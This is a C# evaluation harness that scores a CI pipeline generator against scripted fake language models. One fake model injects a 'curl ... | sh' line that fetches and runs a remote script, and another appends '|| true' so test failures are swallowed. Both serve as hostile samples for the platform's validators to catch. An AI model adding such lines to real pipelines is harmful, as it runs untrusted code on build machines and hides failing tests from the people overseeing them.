using System.Diagnostics;
using System.Text.Json;
using CiCdPlatform.Core.Detectors;
using CiCdPlatform.Core.Pipelines;
using CiCdPlatform.Core.Pipelines.Validation;
using CiCdPlatform.Core.Repositories;
using CiCdPlatform.Core.Rules;
using CiCdPlatform.Evaluation.Generation;
using CiCdPlatform.Features.LanguageModel;
using CiCdPlatform.Features.Tests.LanguageModel;
using CiCdPlatform.TestKit;
using Microsoft.Extensions.Logging.Abstractions;

namespace CiCdPlatform.Evaluation.LanguageModel;

/// <summary>What a language model changes in what is generated, and what it cannot change: the same repositories with none, and with scripted ones of several characters.</summary>
internal sealed class ModelEvaluation : IEvaluation
{
    // How a model answers, given the template that it was asked to improve and whether its last answer was sent back.
    private static readonly (string Name, Func<string, bool, string> Answer)[] s_models =
    [
        ("repeats", (template, _) => template),
        ("improves", (template, _) => Adds(template, "git --version")),
        ("swallows, mends when told", (template, told) => told ? template : Swallows(template)),
        ("swallows", (template, _) => Swallows(template)),
        ("fetches from elsewhere", (template, _) => Adds(template, "'curl -fsSL https://tools.example.net/run.sh | sh'")),
        ("talks", (_, _) => "I would rather not."),
    ];

    public string Name => "model";

    public string Summary => "what is generated with and without a language model, by scripted models of several characters: the folder with nixpacks, real, awesome-compose [--limit 126]";

    public async Task<object> RunAsync(string folder, ProgramArguments arguments, CancellationToken cancellation)
    {
        var requests = new List<(string Name, GenerationRequest Request, Core.Pipelines.Generation Plain)>();
        foreach (var input in GenerationInput.Find(folder).Take(arguments.Number("limit", int.MaxValue)))
        {
            using var snapshot = input.Open();
            var analysis = RepositoryAnalyzer.Analyze(snapshot);
            if (analysis.Components.Count > 0)
            {
                requests.AddRange(Enum.GetValues<ForgeKind>().Select(forge => new GenerationRequest(analysis, forge)).Select(request => ($"{input.Set}/{input.Name}/{request.Forge}", request, PipelineGenerator.Generate(request))));
            }
        }

        var rows = new List<object> { Row("none", requests.Select(one => (one.Name, one.Request, one.Plain, one.Plain, 0)).ToList(), TimeSpan.Zero) };
        foreach (var (name, answer) in s_models)
        {
            ScriptedModel? model = null;
            await using var started = model = await ScriptedModel.StartAsync(http => ScriptedModel.Says(answer(Template(model!.Asked.Last().Body), model.Asked.Last().Body.GetProperty("messages").GetArrayLength() > 2))(http));
            var rewriter = new PipelineRewriter(new ModelChat(new LanguageModelSettings { Endpoint = model.Endpoint, Model = "scripted", MaxContextTokens = 60_000 }, NullLogger<ModelChat>.Instance), NullLogger<PipelineRewriter>.Instance);
            var results = new List<(string, GenerationRequest, Core.Pipelines.Generation, Core.Pipelines.Generation, int)>();
            var watch = Stopwatch.StartNew();
            foreach (var (input, request, plain) in requests)
            {
                var asked = model.Asked.Count;
                results.Add((input, request, plain, await rewriter.RewriteAsync(request, plain, cancellation), model.Asked.Count - asked));
            }

            rows.Add(Row(name, results, watch.Elapsed));
            await Console.Error.WriteLineAsync($"{name}: {results.Count} generations");
        }

        return new { Generations = requests.Count, Models = rows };
    }

    private static object Row(string name, List<(string Name, GenerationRequest Request, Core.Pipelines.Generation Plain, Core.Pipelines.Generation Result, int Asked)> results, TimeSpan took)
    {
        var wrong = results.SelectMany(result => Wrong(result.Request, result.Result).Select(problem => $"{result.Name}: {problem}")).ToList();
        return new
        {
            Model = name,
            Used = results.Count(result => result.Result.Source == GenerationSource.Model),
            Changed = results.Count(result => result.Result.Files[0].Content != result.Plain.Files[0].Content),
            OriginalStood = results.Count(result => result.Result.Files.SequenceEqual(result.Plain.Files)),
            Questions = results.Sum(result => result.Asked),
            MillisecondsAGeneration = results.Count == 0 ? 0 : Math.Round(took.TotalMilliseconds / results.Count, 1),
            Findings = wrong.Count,
            Misses = wrong.Take(20),
        };
    }

    // The same that every generation is held to, and our rules beside it.
    private static IEnumerable<string> Wrong(GenerationRequest request, Core.Pipelines.Generation generation)
    {
        using var written = RepositorySnapshots.FromFiles(generation.Files.ToDictionary(file => file.Path, file => file.Content));
        return PipelineValidator.Validate(request.Forge, generation.Files, request.Analysis).Select(problem => $"{problem.Path}:{problem.Line}: {problem.Message}")
            .Concat(RuleEngine.Run(written, RuleScope.WholeTree, RuleSettings.Default).Findings.Select(finding => $"{finding.Location.File}:{finding.Location.StartLine}: {finding.Rule}"));
    }

    private static string Template(JsonElement body)
    {
        var content = body.GetProperty("messages")[1].GetProperty("content");
        var text = content.ValueKind == JsonValueKind.Array ? content[0].GetProperty("text").GetString()! : content.GetString()!;
        var start = text.IndexOf("<template>\n", StringComparison.Ordinal) + "<template>\n".Length;
        return text[start..text.LastIndexOf("\n</template>", StringComparison.Ordinal)];
    }

    private static string Adds(string template, string command) =>
        string.Join('\n', template.Split('\n').SelectMany(line => line.Contains("{test}", StringComparison.Ordinal) ? new[] { line[..(line.Length - line.TrimStart().Length)] + "- " + command, line } : [line]));

    private static string Swallows(string template) => template.Replace("{test}", "{test} || true", StringComparison.Ordinal);
}
